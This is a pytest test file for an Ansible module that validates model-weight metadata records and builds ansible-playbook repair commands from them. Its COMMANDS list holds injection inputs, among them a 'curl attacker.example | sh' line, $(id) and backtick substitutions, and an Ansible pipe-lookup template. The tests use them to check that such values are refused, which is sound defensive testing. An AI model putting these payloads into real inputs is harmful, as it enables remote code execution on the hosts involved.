"""The records beside weights, which another node may have written: what is no record, and the commands made of them."""

from __future__ import annotations

import json
import shlex
import tracemalloc
from typing import Any

import pytest
from ansible.module_utils.gaudi.base.documents import Damaged
from ansible.module_utils.gaudi.weights import record
from hypothesis import given
from hypothesis import strategies as st

MADE: dict[str, Any] = {
    "schema": 1,
    "source": "hub",
    "repository": "owner/Model",
    "revision": "ab" * 20,
    "fetched": "2026-01-31T08:00:00Z",
    "files": [{"name": "config.json", "size": 2, "sha256": "0" * 64}, {"name": "code/a.py", "size": 0, "sha256": ""}],
}
CONVERTED: dict[str, Any] = {"shards": {"a": {"bytes": 1}}, "source": "/data/in", "tool": "fp8_dynamic"}
COMMANDS = [
    "owner/Model; curl attacker.example | sh",
    "owner/Model -e ansible_connection=local",
    "$(id)/Model",
    "owner/`id`/Model",
    "{{ lookup('pipe', 'id') }}/Model",
    "owner/Model\n",
    "-e/Model",
    "'/Model",
    "",
    "a" * 300 + "/Model",
]


@pytest.mark.parametrize("field", ["source", "repository", "revision"])
@pytest.mark.parametrize("value", [*COMMANDS, None, 5, ["owner/Model"]])
def test_parse_refuses_an_origin_that_is_more_than_a_word(field: str, value: Any) -> None:
    with pytest.raises(ValueError, match=field):
        record.parse(json.dumps({**MADE, field: value}))


@pytest.mark.parametrize(
    ("repository", "revision"),
    [
        ("owner/Model-1.5_b", "main"),
        ("registry.example:5000/gaudi/vllm:1.22-0123456789ab", "sha256:" + "0a" * 32),
        ("registry.example/vllm@sha256:" + "0a" * 32, "refs/pr/1"),
        ("1.24.0-0123456789abcdef", "0a" * 32),
    ],
)
def test_parse_accepts_repositories_images_and_keys_of_recipes(repository: str, revision: str) -> None:
    made = record.parse(json.dumps({**MADE, "repository": repository, "revision": revision}))
    assert record.parse(made.render()) == made


@pytest.mark.parametrize("size", [-1, -(10**30), 10**30, 1.5, True, "2", None, float("nan")])
def test_parse_refuses_a_size_that_no_file_has(size: Any) -> None:
    file = {"name": "a", "size": size, "sha256": ""}
    with pytest.raises(ValueError, match="size of 'a'"):
        record.parse(json.dumps({**MADE, "files": [*MADE["files"], file]}))


@pytest.mark.parametrize("name", ["config.json", "config.json/a", "code"])
def test_parse_refuses_two_files_with_one_name(name: str) -> None:
    with pytest.raises(ValueError, match="twice"):
        record.parse(json.dumps({**MADE, "files": [*MADE["files"], {"name": name, "size": 1, "sha256": ""}]}))


@pytest.mark.parametrize("name", ["a/" * 500_000 + "a", "a" * 5000])
def test_a_name_that_no_file_can_have_takes_no_memory(name: str) -> None:
    """Of each name all folders above it were kept: a record of one megabyte took a node's memory."""
    tracemalloc.start()
    with pytest.raises(ValueError, match="none that a file can have"):
        record.parse(json.dumps({**MADE, "files": [{"name": name, "size": 1, "sha256": ""}]}))
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 50_000_000


@given(st.lists(st.lists(st.sampled_from("ab-"), min_size=1, max_size=4).map("/".join), max_size=6))
def test_a_name_is_there_twice_where_it_is_one_of_a_folder_too(names: list[str]) -> None:
    folders = {folder for name in names for folder in record.folders_of(name)}
    files = [{"name": name, "size": 1, "sha256": ""} for name in names]
    if len({*names}) < len(names) or folders & {*names}:
        with pytest.raises(ValueError, match="twice"):
            record.parse(json.dumps({**MADE, "files": files}))
    else:
        assert record.parse(json.dumps({**MADE, "files": files})).names == names


@pytest.mark.parametrize("field", ["source", "tool"])
@pytest.mark.parametrize("value", ["/data/in\nid", "/data/\x1b[2J", "data/in" * 700])
def test_parse_converted_refuses_an_origin_of_several_lines(field: str, value: str) -> None:
    with pytest.raises((ValueError, Damaged), match=field):
        record.parse_converted(json.dumps({**CONVERTED, field: value}))


def test_repair_names_what_the_record_has() -> None:
    made = record.parse_converted(json.dumps(CONVERTED))
    assert record.command_for_converted(made, "/data/out") == (
        "ansible-playbook playbooks/convert_weights.yml -e source=/data/in -e target=/data/out -e tool=fp8_dynamic"
    )
    fetched = record.parse(json.dumps(MADE))
    assert record.command_for_fetched(fetched, "/data/Model") == (
        f"ansible-playbook playbooks/fetch_weights.yml -e repository=owner/Model -e revision={'ab' * 20}"
    )


@pytest.mark.parametrize("value", [f"/data/{command}" for command in COMMANDS if "\n" not in command])
def test_repair_converted_has_no_words_of_the_record_that_a_shell_or_ansible_would_read(value: str) -> None:
    """Ansible divides the value of -e at blanks, and evaluates braces in it, however the shell quotes it."""
    made = record.parse_converted(json.dumps({**CONVERTED, "source": value}))
    words = shlex.split(record.command_for_converted(made, value))
    assert [word.partition("=")[0] for word in words[2:]] == ["-e", "source", "-e", "target", "-e", "tool"]
    assert not set("{}();|`$' ") & set("".join(words))
